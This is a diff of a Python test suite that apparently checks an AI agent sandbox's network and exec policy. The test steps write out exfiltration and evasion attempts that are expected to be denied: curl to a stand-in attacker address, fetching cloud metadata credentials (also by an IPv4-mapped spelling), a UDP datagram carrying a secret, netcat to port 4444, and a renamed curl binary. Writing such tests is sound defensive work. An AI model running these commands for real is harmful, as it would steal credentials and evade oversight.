@@ -11,6 +11,7 @@ GIT = "10.77.0.2"
 API, API6 = "10.77.0.3", "fd77::3"
 EVIL, EVIL6 = "10.77.0.66", "fd77::66"
 METADATA = "169.254.169.254"
+METADATA_PORTS = (80, 81)
 RESOLVER = "127.0.0.53"
 GIT_PORT = 8080
 API_PORT = 8443
@@ -20,6 +21,8 @@ DBUS = "/run/dbus/system_bus_socket"
 SYSLOG = "/run/systemd/journal/dev-log"
 
 PYTHON = "/usr/bin/python3"
+CURL = "/usr/bin/curl"
+GIT_HELPER = "/usr/lib/git-core/git-remote-http"
 LOADERS = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")
 
 
@@ -103,9 +106,9 @@ def allow(kind: str, target: str, rule: str, by: str | None = None) -> Expect:
     return Expect("allow", (kind,), target, "rule-allows", rule, real)
 
 
-def deny(kind: str, target: str, reason: str = "not-listed", rule: str | None = None) -> Expect:
+def deny(kind: str, target: str, reason: str = "not-listed", rule: str | None = None, by: str = PYTHON) -> Expect:
     kinds = ("connect", "send") if kind == "internet" else (kind,)
-    return Expect("deny", kinds, target, reason, rule)
+    return Expect("deny", kinds, target, reason, rule, os.path.realpath(by))
 
 
 def request(path: str) -> Trace:
@@ -134,11 +137,13 @@ def works(place: Place) -> list[Step]:
     clone = f"http://{GIT}:{GIT_PORT}/{phase}/project.git"
     helper = f"http://{API}:{API_PORT}/files/{phase}/helper"
     api4 = allow("connect", f"tcp:{API}:{API_PORT}", "model-api", PYTHON)
-    git = allow("connect", f"tcp:{GIT}:{GIT_PORT}", "git-server", "/usr/lib/git-core/git-remote-http")
+    git = allow("connect", f"tcp:{GIT}:{GIT_PORT}", "git-server", GIT_HELPER)
     return [
         # The agent itself does this one, to learn the others.
-        Step("ask", "POST to the model API over IPv4: what to do?", "", api4, request(f"/v1/plan/{phase}/agent")),
-        Step("clone", "git clone from the git server", "command", git, request(f"/{phase}/project.git/info/refs"),
+        Step("ask", "POST to the model API over IPv4: what to do?", "", api4,
+             request(f"/v1/plan/{phase}/agent")),
+        Step("clone", "git clone from the git server", "command", git,
+             request(f"/{phase}/project.git/info/refs"),
              {"argv": ["/usr/bin/git", "clone", "--quiet", clone, "project"]}),
         Step("build", "make, gcc: build the project", "command",
              allow("exec", os.path.realpath("/usr/bin/gcc"), "gcc"),
@@ -157,20 +162,26 @@ def works(place: Place) -> list[Step]:
              Trace("journal", f"demo-syslog-{phase}", "lines in the journal"),
              {"path": SYSLOG, "text": f"demo-syslog-{phase}"}),
         Step("curl", "curl --version: curl may run", "command",
-             allow("exec", "/usr/bin/curl", "http-client"), Trace("none"),
-             {"argv": ["/usr/bin/curl", "--version"]}),
+             allow("exec", CURL, "http-client"), Trace("none"),
+             {"argv": [CURL, "--version"]}),
         Step("download", "download a program from the API", "download", api4,
              request(f"/files/{phase}/helper"), {"url": helper, "path": "helper"}),
         Step("copy", "cp /usr/bin/curl ./updater", "command",
              allow("exec", "/usr/bin/cp", "files"), file(str(home / "updater"), "copy that was made"),
-             {"argv": ["/usr/bin/cp", "/usr/bin/curl", "updater"]}),
+             {"argv": ["/usr/bin/cp", CURL, "updater"]}),
     ]
 
 
-def curl(name: str, what: str, host: str, port: int, expect: Expect, program: str = "/usr/bin/curl") -> Step:
+def with_curl(url: str, program: str = CURL) -> dict[str, object]:
+    """The arguments of the tool `command`."""
+    return {"argv": [program, "--silent", "--show-error", "--noproxy", "*", "--max-time", "30", url]}
+
+
+def curl(name: str, what: str, host: str, port: int) -> Step:
+    target = f"tcp:{bracketed(host)}:{port}"
+    expect = deny("internet", target, by=CURL)
     url = f"http://{bracketed(host)}:{port}/{name}"
-    argv = [program, "--silent", "--show-error", "--noproxy", "*", "--max-time", "30", url]
-    return Step(name, what, "command", expect, packets("tcp", host, port), {"argv": argv})
+    return Step(name, what, "command", expect, packets("tcp", host, port), with_curl(url))
 
 
 def get(name: str, what: str, tool: str, port: int) -> Step:
@@ -188,22 +199,20 @@ def hijacked(place: Place) -> list[Step]:
 
 
 def network(place: Place) -> list[Step]:
-    git_port = f"/{place.phase}/curl-to-git"
-    metadata = deny("internet", f"tcp:{METADATA}:80", "rule-denies", "no-metadata")
-    to_git = Step(
-        "curl-to-git", "curl to the git server, which only git may reach", "command",
-        deny("internet", f"tcp:{GIT}:{GIT_PORT}", "not-for-this-binary"), request(git_port),
-        {"argv": ["/usr/bin/curl", "--silent", "--show-error", "--noproxy", "*", "--max-time", "30",
-                  f"http://{GIT}:{GIT_PORT}{git_port}"]},
-    )
+    to_git = f"/{place.phase}/curl-to-git"
+    metadata, mapped = METADATA_PORTS
     return [
-        curl("curl-away", "curl to an address that is not listed", EVIL, 443, deny("internet", f"tcp:{EVIL}:443")),
-        curl("curl-away6", "curl to an IPv6 address that is not listed", EVIL6, 443,
-             deny("internet", f"tcp:[{EVIL6}]:443")),
-        to_git,
-        curl("credentials", "curl to the cloud's metadata address", METADATA, 80, metadata),
-        Step("credentials-mapped", "the same by its IPv4-mapped spelling", "get", metadata,
-             packets("tcp", METADATA, 80), {"url": f"http://[::ffff:{METADATA}]:80/credentials"}),
+        curl("curl-away", "curl to an address that is not listed", EVIL, 443),
+        curl("curl-away6", "curl to an IPv6 address that is not listed", EVIL6, 443),
+        Step("curl-to-git", "curl to the git server, which only git may reach", "command",
+             deny("internet", f"tcp:{GIT}:{GIT_PORT}", "not-for-this-binary", by=CURL),
+             request(to_git), with_curl(f"http://{GIT}:{GIT_PORT}{to_git}")),
+        Step("credentials", "curl to the cloud's metadata address", "command",
+             deny("internet", f"tcp:{METADATA}:{metadata}", "rule-denies", "no-metadata", CURL),
+             packets("tcp", METADATA, metadata), with_curl(f"http://{METADATA}/credentials")),
+        Step("credentials-mapped", "Python there, by the IPv4-mapped spelling", "get",
+             deny("internet", f"tcp:{METADATA}:{mapped}", "rule-denies", "no-metadata"),
+             packets("tcp", METADATA, mapped), {"url": f"http://[::ffff:{METADATA}]:{mapped}/credentials"}),
         Step("datagram", "a UDP datagram out", "datagram", deny("internet", f"udp:{EVIL}:53"),
              packets("udp", EVIL, 53), {"host": EVIL, "port": 53, "text": f"secret-{place.phase}"}),
         get("fast-open", "TCP fast open: data without connect", "fast_open", 8081),
@@ -217,10 +226,12 @@ def programs(place: Place) -> list[Step]:
     netcat = os.path.realpath("/usr/bin/nc")
     loader = next(path for path in LOADERS if os.path.exists(path))
     return [
-        Step("netcat", "nc to the same host", "command", deny("exec", netcat), packets("tcp", EVIL, 4444),
+        Step("netcat", "nc to the same host", "command",
+             deny("exec", netcat), packets("tcp", EVIL, 4444),
              {"argv": ["/usr/bin/nc", "-N", "-w", "30", EVIL, "4444"], "text": "GET / HTTP/1.0\r\n\r\n"}),
-        curl("copy-of-curl", "./updater: a copy of curl by another name", EVIL, 8084,
-             deny("exec", str(home / "updater")), "./updater"),
+        Step("copy-of-curl", "./updater: a copy of curl by another name", "command",
+             deny("exec", str(home / "updater")), packets("tcp", EVIL, 8084),
+             with_curl(f"http://{EVIL}:8084/copy-of-curl", "./updater")),
         Step("downloaded", "./helper: the program that was downloaded", "command",
              deny("exec", str(home / "helper")), file(place.mark("downloaded")),
              {"argv": ["./helper", place.mark("downloaded")]}),
